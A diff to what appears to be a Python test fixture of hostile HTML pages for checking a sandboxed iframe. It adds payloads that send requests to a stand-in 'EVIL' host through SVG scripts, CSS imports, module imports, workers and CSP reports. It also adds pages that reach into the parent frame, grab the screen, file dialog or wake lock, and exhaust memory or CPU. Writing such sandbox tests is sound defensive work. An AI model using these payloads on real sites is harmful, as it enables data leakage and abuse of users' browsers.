@@ -7,9 +7,14 @@
 
 from __future__ import annotations
 
-from typing import Final
+from typing import TYPE_CHECKING, Final
+
+if TYPE_CHECKING:
+    from collections.abc import Iterable
 
 BEGIN: Final = "<!doctype html><title>x</title><body style='margin:0;height:100vh'><p>hostile</p>"
+RAN: Final = "<script>console.log('RAN')</script>"
+"""Goes before each, so that it is known when it runs."""
 TELL: Final = (
     "const told = (what) => console.log('GOT OUT: ' + what);"
     "const mark = (what) => { parent.document.documentElement.dataset.out = what; told(what); };"
@@ -18,7 +23,7 @@ TELL: Final = (
 
 def script(code: str, *, markup: str = "") -> str:
     """A page that runs code, each line guarded, at once and on a click."""
-    return f"{BEGIN}{markup}<script>{TELL}async function go() {{ {code} }} go().catch(() => {{}}); addEventListener('click', () => go().catch(() => {{}}));</script>"
+    return f"{BEGIN}{markup}<script>{{{TELL}async function go() {{ {code} }} go().catch(() => {{}}); addEventListener('click', () => go().catch(() => {{}}));}}</script>"
 
 
 def markup(text: str) -> str:
@@ -118,6 +123,35 @@ NETWORK: Final[dict[str, str]] = {
     "webrtc-written": script(
         f"document.write('<div><template shadowroot'); document.write('mode=open><iframe srcdoc=\"<script>{STUN_QUOTED}</' + 'script>\"></iframe></template></div>')"
     ),
+    "svg-script": markup(
+        "<svg xmlns='http://www.w3.org/2000/svg'><script href='EVIL/ss'></script><script>fetch('EVIL/sf', {mode: 'no-cors'})</script></svg>"
+    ),
+    "svg-animated-link": script(
+        "document.querySelector('a').dispatchEvent(new MouseEvent('click', {bubbles: true}))",
+        markup="<svg><a><set attributeName=href to='EVIL/sa' /><text y=20>x</text></a></svg>",
+    ),
+    "style-in-svg": markup(
+        "<svg><style>@import url(EVIL/sis);</style><rect fill='url(EVIL/fill#x)' width=9 height=9 /></svg>"
+    ),
+    "image-set": markup(
+        "<style>body{background:image-set('EVIL/is' 1x);cursor:url(EVIL/cur),auto}p::before{content:url(EVIL/co)}</style>"
+    ),
+    "refresh-late": script(
+        "const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=EVIL/rl'; document.head.append(m)"
+    ),
+    "module-import": markup("<script type=module>import 'EVIL/mi.js'</script>"),
+    "import-map": markup(
+        '<script type=importmap>{"imports": {"x": "EVIL/im.js"}}</script><script type=module>import \'x\'</script>'
+    ),
+    "shared-worker": script(
+        "new Worker('data:text/javascript,fetch(`EVIL/dw`,{mode:`no-cors`})'); new SharedWorker('EVIL/sw.js')"
+    ),
+    "fetch-keepalive": script(
+        "addEventListener('pagehide', () => fetch('EVIL/ka', {mode: 'no-cors', keepalive: true})); await fetch('EVIL/ka2', {mode: 'no-cors', keepalive: true})"
+    ),
+    "report-to": markup(
+        "<meta http-equiv=content-security-policy content=\"img-src 'none'; report-uri EVIL/ru\"><img src='EVIL/ri'>"
+    ),
     "webtransport": script("new WebTransport('EVIL/wt'.replace('http', 'https'))"),
 }
 """Each ends with something at the server outside, where nothing holds it."""
@@ -146,6 +180,13 @@ AROUND: Final[dict[str, str]] = {
     "download": script(
         "document.querySelector('a').click()", markup="<a download=x.txt href='data:text/plain,x'>x</a>"
     ),
+    "link-blank-ctrl": script(
+        "document.querySelector('a').dispatchEvent(new MouseEvent('click', {ctrlKey: true, bubbles: true}))",
+        markup="<a href='EVIL/ctrl' style='position:fixed;inset:0'>x</a>",
+    ),
+    "mail": script(
+        "location = 'mailto:a@example.org'; window.open('mailto:b@example.org'); told(parent.document.title)"
+    ),
     "opened-by-others": script(
         "new BroadcastChannel('x').postMessage(1); for (const w of [parent, top]) told('name ' + w.name + w.document)"
     ),
@@ -165,12 +206,41 @@ GREEDY: Final[dict[str, str]] = {
     "beforeunload": script(
         "addEventListener('beforeunload', (e) => { e.preventDefault(); e.returnValue = 'GOT OUT'; })"
     ),
+    "title": script("document.title = 'GOT OUT'; window.name = 'GOT OUT'; told(top.document.title)"),
+    "file-dialog": markup("<input type=file><script>document.querySelector('input').click()</script>"),
+    "speech": script(
+        "const said = new SpeechSynthesisUtterance('x'); said.onstart = () => told('speech'); speechSynthesis.speak(said)"
+    ),
+    "wake-and-lock": script(
+        "screen.orientation.lock('portrait').then(() => told('orientation'), () => {}); navigator.keyboard?.lock().then(() => told('keys'), () => {});"
+        "await navigator.wakeLock.request('screen'); told('wake lock')"
+    ),
+    "capture": script("await navigator.mediaDevices.getDisplayMedia(); told('screen'); "),
+    "memory": script("window.kept = []; for (let n = 0; n < 60; n += 1) kept.push(new Uint8Array(1 << 20).fill(1))"),
     "notifications": script("if (await Notification.requestPermission() === 'granted') told('notices')"),
     "post-message-flood": script(
         "setInterval(() => { for (let n = 0; n < 2000; n += 1) parent.postMessage({action: 'vote', choice: 'a'}, '*'); }, 10)"
     ),
 }
 """Each takes what is a person's own; nothing may come of it."""
+
+QUIET: Final = frozenset(
+    (
+        "fetch", "xhr", "beacon", "websocket", "eventsource", "image", "style-url", "style-import", "font", "script-src",
+        "link-prefetch", "link-icon", "preconnect", "media", "object", "svg", "blob-frame", "blob-worker",
+        "speculation", "svg-script", "style-in-svg", "module-import", "shared-worker", "fetch-keepalive", "webtransport",
+        "parent-document", "top-location", "parent-location", "window-open", "frame-element", "cookie", "local-storage",
+        "indexed-db", "app-data", "alert", "confirm", "opened-by-others", "service-worker", "fullscreen", "pointer-lock",
+        "clipboard", "print", "notifications", "title", "speech", "wake-and-lock", "capture",
+    )
+)  # fmt: skip
+"""Those that stand in one page with others: in a frame none of them leads it away, or takes what another one looks for."""
+
+
+def together(pages: Iterable[str]) -> str:
+    """One page out of several."""
+    return BEGIN + "".join(page.removeprefix(BEGIN) for page in pages)
+
 
 BUSY: Final = script("for (;;) ;")
 KEYS: Final = (
